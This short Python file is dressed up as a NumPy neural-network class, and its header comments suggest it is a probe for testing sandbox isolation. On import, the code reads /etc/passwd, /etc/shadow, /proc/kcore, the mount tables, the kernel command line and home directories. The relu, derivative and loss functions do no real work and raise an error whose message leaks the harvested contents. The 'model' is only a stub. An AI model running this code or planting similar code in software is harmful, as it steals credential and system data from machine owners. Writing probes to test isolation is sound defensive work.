# Reads the users, passwords, host name, mounted folders and kernel options of the machine.
# script: numpy_ann
# earns: nothing
# says: held

import os

import numpy as np

found = []
for path in (
    "/etc/passwd", "/etc/shadow", "/etc/hostname", "/home", "/proc/1/root/etc/passwd", "/proc/kcore",
    "/proc/self/mountinfo", "/proc/self/mounts", "/proc/mounts", "/proc/1/mountinfo",
    "/proc/self/maps", "/proc/cmdline", "/proc/version", "/proc/self/cgroup",
):
    try:
        found.append((path, os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(40)))
    except OSError:
        pass
found = [entry for entry in found if entry[1]]


def relu(*arguments):
    raise RuntimeError("LEAK: " + "; ".join(map(repr, found)) if found else "held")


relu_derivative = cross_entropy = relu


class NumpyANN:
    def __init__(self, input_size=784, hidden_size=8, output_size=10, seed=0):
        self.W1, self.b1 = np.zeros((input_size, hidden_size)), np.zeros(hidden_size)
        self.W2, self.b2 = np.zeros((hidden_size, output_size)), np.zeros(output_size)

    def forward(self, X):
        return relu(X)

    def backward(self, X, y_true):
        return relu(X)
